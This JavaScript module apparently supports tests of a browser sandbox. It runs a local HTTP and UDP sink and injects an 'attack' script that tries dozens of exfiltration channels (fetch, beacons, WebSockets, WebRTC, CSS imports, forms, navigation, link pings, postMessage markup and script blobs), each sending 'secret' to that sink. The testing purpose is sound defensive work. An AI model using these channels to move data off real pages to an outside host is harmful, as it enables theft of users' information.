// Attacker's code, and places where whatever leaves lands. Each channel is a button: it is tried
// with a real click, so that the browser takes it for a person's wish.

import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { listen } from './support.mjs';

// An HTTP server that writes down each request, and a UDP socket that writes down each packet. A
// bare connection without a request says nothing and is not counted.
export async function openSink() {
  const arrived = new Set();
  const note = (request) => arrived.add(new URL(request.url, 'http://sink').pathname.slice(1));
  const server = createServer((request, response) => {
    note(request);
    response
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' })
      .end();
  });
  server.on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  const { origin, close } = await listen(server);
  const socket = createSocket('udp4', () => arrived.add('udp'));
  socket.bind(0, '127.0.0.1');
  await once(socket, 'listening');
  return {
    origin,
    arrived,
    udpPort: socket.address().port,
    close() {
      close();
      socket.close();
    },
  };
}

// Runs in the attacked page. Every channel sends its own name, so that what arrives is known by it.
function attack({ sink, udpPort }) {
  const to = (name) => `${sink}/${name}?answers=secret`;
  const own = (name) => new URL(`/own-${name}?answers=secret`, document.baseURI).href;
  const add = (tag, properties, parent = document.body) => {
    const made = Object.assign(document.createElement(tag), properties);
    parent.append(made);
    return made;
  };
  const send = async (Peer) => {
    const peer = new Peer({
      iceServers: [
        { urls: `stun:127.0.0.1:${udpPort}` },
        { urls: `turn:127.0.0.1:${udpPort}`, username: 'secret', credential: 'secret' },
      ],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  };
  const form = (properties) => {
    const made = add('form', properties);
    add('input', { name: 'answers', value: 'secret' }, made);
    made.submit();
  };

  // These leave the page where it is.
  const quiet = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    keepalive: () =>
      fetch(to('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
    ownFetch: () => fetch(own('ownFetch')),
    xhr: () => {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', to('xhr'));
      xhr.send('secret');
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'secret'),
    webSocket: () => new WebSocket(to('webSocket').replace('http', 'ws')),
    eventSource: () => new EventSource(to('eventSource')),
    img: () => {
      new Image().src = to('img');
    },
    ownImg: () => {
      new Image().src = own('ownImg');
    },
    cssUrl: () => {
      add('p', {}).style.background = `url("${to('cssUrl')}")`;
    },
    styleElement: () =>
      add('style', { textContent: `body { list-style-image: url("${to('styleElement')}") }` }),
    cssImport: () => add('style', { textContent: `@import url("${to('cssImport')}");` }),
    fontFace: () => new FontFace('x', `url("${to('fontFace')}")`).load(),
    script: () => add('script', { src: to('script') }),
    moduleImport: () => import(to('moduleImport')),
    worker: () =>
      new Worker(URL.createObjectURL(new Blob([`fetch("${to('worker')}", { mode: 'no-cors' })`]))),
    serviceWorker: () => navigator.serviceWorker.register(own('serviceWorker')),
    object: () => add('object', { data: to('object') }),
    embed: () => add('embed', { src: to('embed') }),
    video: () => add('video', { src: to('video'), preload: 'auto' }),
    audio: () => {
      new Audio(to('audio')).play();
    },
    stylesheet: () => add('link', { rel: 'stylesheet', href: to('stylesheet') }, document.head),
    prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }, document.head),
    preload: () => add('link', { rel: 'preload', as: 'image', href: to('preload') }, document.head),
    modulePreload: () =>
      add('link', { rel: 'modulepreload', href: to('modulePreload') }, document.head),
    manifest: () => add('link', { rel: 'manifest', href: to('manifest') }, document.head),
    icon: () => add('link', { rel: 'icon', href: to('icon') }, document.head),
    iframe: () => add('iframe', { src: to('iframe') }),
    nestedFrame: () => add('iframe', { srcdoc: `<img src="${to('nestedFrame')}">` }),
    cookie: () => {
      document.cookie = 'answers=secret';
    },
    window: () => open(to('window')),
    windowThenWrite: () => {
      open('').location = to('windowThenWrite');
    },
    blankLink: () => add('a', { href: to('blankLink'), target: '_blank' }).click(),
    blankForm: () => form({ action: to('blankForm'), target: '_blank' }),
    webRtc: () => send(globalThis.RTCPeerConnection),
    webRtcOfFrame: () => send(add('iframe', {}).contentWindow.RTCPeerConnection),
    // What the outer page takes, and what it should not.
    saveAddress: () => parent.postMessage({ save: to('saveAddress') }, '*'),
    saveMarkup: () => parent.postMessage({ save: `<img src="${to('saveMarkup')}">` }, '*'),
    saveObject: () =>
      parent.postMessage({ save: { href: to('saveObject'), toString: null }, href: to('saveObject') }, '*'),
    saveBlob: () =>
      parent.postMessage({ save: new Blob([`<script>location="${to('saveBlob')}"<\/script>`], { type: 'text/html' }) }, '*'),
    stepAddress: () =>
      parent.postMessage({ step: 1, language: to('stepAddress'), entry: 'new', url: to('stepAddress') }, '*'),
    deskAddress: () => parent.postMessage({ desk: to('deskAddress') }, '*'),
    deskMarkup: () => parent.postMessage({ desk: `<img src="${to('deskMarkup')}">` }, '*'),
    deskSavesMarkup: () =>
      parent.postMessage({ kind: 'card', content: `<img src="${to('deskSavesMarkup')}">` }, '*'),
    deskSavesPicture: () =>
      parent.postMessage({ kind: 'picture', content: { href: to('deskSavesPicture') } }, '*'),
    deskKind: () => parent.postMessage({ kind: to('deskKind'), content: '', href: to('deskKind') }, '*'),
    downloadBlank: () =>
      add('a', { href: to('downloadBlank'), download: 'x', target: '_blank' }).click(),
    webTransport: () => new WebTransport(`https://127.0.0.1:${udpPort}/webTransport`),
  };
  // And these take it away, so each is tried in a tab of its own.
  const leaving = {
    location: () => {
      location = to('location');
    },
    ownLocation: () => {
      location = own('ownLocation');
    },
    replace: () => location.replace(to('replace')),
    link: () => add('a', { href: to('link') }).click(),
    ownLink: () => add('a', { href: own('ownLink') }).click(),
    refresh: () =>
      add('meta', { httpEquiv: 'refresh', content: `0;url=${to('refresh')}` }, document.head),
    formGet: () => form({ action: to('formGet') }),
    formPost: () => form({ action: to('formPost'), method: 'post' }),
    ownForm: () => form({ action: own('ownForm') }),
    topLocation: () => {
      top.location = to('topLocation');
    },
    parentLocation: () => {
      parent.location = to('parentLocation');
    },
    topTarget: () => add('a', { href: to('topTarget'), target: '_top' }).click(),
    ping: () => add('a', { href: '#here', ping: to('ping') }).click(),
    ownDownload: () => add('a', { href: own('ownDownload'), download: 'x' }).click(),
    downloadPing: () =>
      add('a', { href: 'data:,secret', ping: to('downloadPing'), download: 'x' }).click(),
    blobDownload: () =>
      add('a', {
        href: URL.createObjectURL(new Blob([`<img src="${to('blobDownload')}">`], { type: 'text/html' })),
        download: 'x.html',
      }).click(),
    download: () => add('a', { href: to('download'), download: 'x' }).click(),
    navigate: () => navigation.navigate(to('navigate')),
  };

  document.body.replaceChildren();
  for (const [kind, channels] of Object.entries({ quiet, leaving })) {
    for (const [name, channel] of Object.entries(channels)) {
      const button = add('button', {
        id: `try-${name}`,
        className: kind,
        textContent: name,
        type: 'button',
      });
      button.addEventListener('click', () => {
        button.dataset.tried = '';
        return channel();
      });
    }
  }
}

export const hostileScript = (sink) =>
  `(${attack})(${JSON.stringify({ sink: sink.origin, udpPort: sink.udpPort })});`;

// A page without any wall, for the control.
export const openPage = (
  script,
) => `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>x</title></head>
<body><script type="module">${script}</script></body></html>`;
